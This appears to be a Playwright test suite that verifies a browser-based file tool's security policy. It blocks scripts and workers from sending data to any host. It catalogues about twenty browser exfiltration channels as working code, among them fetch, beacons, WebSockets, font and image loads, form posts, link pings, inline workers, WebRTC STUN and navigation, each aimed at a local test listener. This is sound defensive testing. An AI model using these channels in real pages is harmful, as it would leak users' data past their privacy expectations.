import { expect, test, type Page } from '@playwright/test';
import { addFiles, finished, fixture, openTool } from '../browser/tool-page.ts';
import { listen, type Listener } from './listener.ts';

let listener: Listener;
test.beforeAll(async () => {
  listener = await listen();
});
test.afterAll(() => listener.close());

/** Ways out that a script in a page may try. Each gets an address, and does its worst with it. */
const pageChannels: Record<string, (address: string) => unknown> = {
  fetch: (address) => fetch(address, { method: 'POST', body: 'secret', mode: 'no-cors' }),
  'fetch that outlives the page': (address) =>
    fetch(address, { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    request.send('secret');
  },
  beacon: (address) => navigator.sendBeacon(address, 'secret'),
  WebSocket: (address) => new WebSocket(address.replace(/^http/, 'ws')),
  EventSource: (address) => new EventSource(address),
  WebTransport: (address) => new WebTransport(address.replace(/^http:/, 'https:')).ready,
  image: (address) => Object.assign(new Image(), { src: address }),
  'image in a style': (address) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url("${address}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: (address) => new FontFace('leak', `url("${address}")`).load(),
  audio: (address) => Object.assign(new Audio(), { src: address, preload: 'auto' }).load(),
  stylesheet: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address })),
  script: (address) => document.head.append(Object.assign(document.createElement('script'), { src: address })),
  'module import': (address) => import(/* @vite-ignore */ address),
  prefetch: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address })),
  preload: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: address })),
  icon: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: address })),
  frame: (address) => document.body.append(Object.assign(document.createElement('iframe'), { src: address })),
  object: (address) => document.body.append(Object.assign(document.createElement('object'), { data: address })),
  form: (address) => {
    const form = Object.assign(document.createElement('form'), { action: address, method: 'post', target: '_self' });
    document.body.append(form);
    form.submit();
  },
  ping: (address) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: address });
    document.body.append(link);
    link.click();
  },
  'inline worker': (address) => {
    const code = `fetch(${JSON.stringify(address)}, { method: 'POST', body: 'secret', mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
};

/** Ways out that a worker may try. */
const workerChannels: Record<string, (address: string) => unknown> = {
  fetch: (address) => fetch(address, { method: 'POST', body: 'secret', mode: 'no-cors' }),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest();
    request.open('POST', address, false);
    request.send('secret');
  },
  WebSocket: (address) => new WebSocket(address.replace(/^http/, 'ws')),
  EventSource: (address) => new EventSource(address),
  WebTransport: (address) => new WebTransport(address.replace(/^http:/, 'https:')).ready,
  'module import': (address) => import(/* @vite-ignore */ address),
  font: (address) => new FontFace('leak', `url("${address}")`).load(),
  'inline worker': (address) => {
    const code = `fetch(${JSON.stringify(address)}, { method: 'POST', body: 'secret', mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
};

/** Ways that a policy has no word for. */
const openWays: Record<string, (address: string) => unknown> = {
  'WebRTC, to look for a path': async (address) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(address).host}` }] });
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
  },
  navigation: (address) => void (location.href = address),
};

const addressOf = (name: string, origin: string) => `${origin}/leak?${new URLSearchParams({ way: name })}`;

/** Tries every way out of a place, one after the other. What throws at once is refused; what does not may still be. */
async function tryAll(
  where: Pick<Page, 'evaluate'>,
  channels: Record<string, (address: string) => unknown>,
  origin: string,
) {
  for (const [name, channel] of Object.entries(channels)) {
    const run = where.evaluate(channel as (address: string) => Promise<undefined>, addressOf(name, origin));
    await Promise.race([run.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 500))]);
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
}

const waysHeard = ({ heard }: Listener) =>
  new Set(heard.map((line) => new URLSearchParams(line.split('?')[1]).get('way') ?? line));

test('without a policy, every one of these ways is open: the tests below can fail', async ({ page }) => {
  const unguarded = await listen();
  const foreign = await listen();
  await page.goto(unguarded.origin);
  const { form, ...others } = pageChannels;
  await tryAll(page, others, foreign.origin);
  await expect
    .poll(() => Object.keys(others).filter((name) => !waysHeard(foreign).has(name)))
    .toEqual(['WebTransport']);
  await page.evaluate(form as (address: string) => undefined, addressOf('form', foreign.origin)).catch(() => undefined);
  await expect.poll(() => [...waysHeard(foreign)]).toContain('form');
  // HTTP/3 comes as datagrams, which name no way.
  await expect.poll(() => foreign.heard).toContain('datagram');

  // The form has taken the page along.
  await page.waitForURL(/way=form/);
  foreign.heard.length = 0;
  await page.goto(unguarded.origin);
  const starting = page.waitForEvent('worker');
  await page.evaluate(() => void new Worker(URL.createObjectURL(new Blob(['']))));
  await tryAll(await starting, workerChannels, foreign.origin);
  await expect
    .poll(() => Object.keys(workerChannels).filter((name) => !waysHeard(foreign).has(name)))
    .toEqual(['WebTransport']);
  await Promise.all([unguarded.close(), foreign.close()]);
});

test('a page with a file in it can send nothing to another host', async ({ page }) => {
  await openTool(page, 'compress-image');
  await addFiles(page, [fixture('photos/coffee.jpg')]);
  await finished(page);
  await tryAll(page, pageChannels, listener.origin);
  expect(listener.heard).toEqual([]);
  await expect(page).toHaveURL(/\/compress-image#?$/);
});

const slugs = { image: 'compress-image', media: 'convert-audio', pdf: 'merge-pdf' };
const files = { image: 'photos/coffee.jpg', media: 'media/tone.wav', pdf: 'pdf/plain.pdf' };
for (const engine of ['image', 'media', 'pdf'] as const) {
  test(`the ${engine} worker, which reads files, can send nothing to any host`, async ({ page, baseURL }) => {
    const sent: string[] = [];
    page.context().on('requestfinished', (request) => request.method() !== 'GET' && sent.push(request.url()));
    const starting = page.waitForEvent('worker', (worker) => worker.url().includes(`${engine}.worker`));
    await openTool(page, slugs[engine]);
    await addFiles(page, [fixture(files[engine])]);
    const worker = await starting;
    await tryAll(worker, workerChannels, listener.origin);
    expect(listener.heard).toEqual([]);
    await tryAll(worker, workerChannels, baseURL ?? '');
    expect(sent).toEqual([]);
  });
}

test('a page with a file in it can post nothing to its own host', async ({ page, baseURL }) => {
  const sent: string[] = [];
  page.context().on('requestfinished', (request) => request.method() !== 'GET' && sent.push(request.url()));
  await openTool(page, 'compress-image');
  await tryAll(page, pageChannels, baseURL ?? '');
  expect(sent).toEqual([]);
});

test('doing the work asks for nothing but the site’s own scripts and engines', async ({ page, baseURL }) => {
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(`${request.method()} ${request.url()}`));
  await openTool(page, 'compress-image');
  const before = asked.length;
  await addFiles(page, [fixture('photos/coffee.jpg'), fixture('images/photo.avif')]);
  await finished(page);
  const during = asked.slice(before).filter((line) => !line.startsWith(`GET blob:${baseURL}/`));
  expect(during.length).toBeGreaterThan(0);
  for (const line of during) expect(line).toMatch(new RegExp(`^GET ${baseURL}/_astro/[^?]+\\.(js|css|wasm)$`));
});

test('no policy closes WebRTC and navigation: a script of ours could use them, and the privacy page says so', async ({
  page,
}) => {
  const foreign = await listen();
  await openTool(page, 'compress-image');
  await tryAll(page, openWays, foreign.origin);
  await expect.poll(() => foreign.heard).toContain('datagram');
  await expect.poll(() => [...waysHeard(foreign)]).toContain('navigation');
  // Else it would come in the way of the next.
  await page.waitForURL(/way=navigation/);
  await page.goto('/privacy');
  await expect(page.locator('main')).toContainText('WebRTC');
  await expect(page.locator('main')).toContainText('open another address');
  await foreign.close();
});
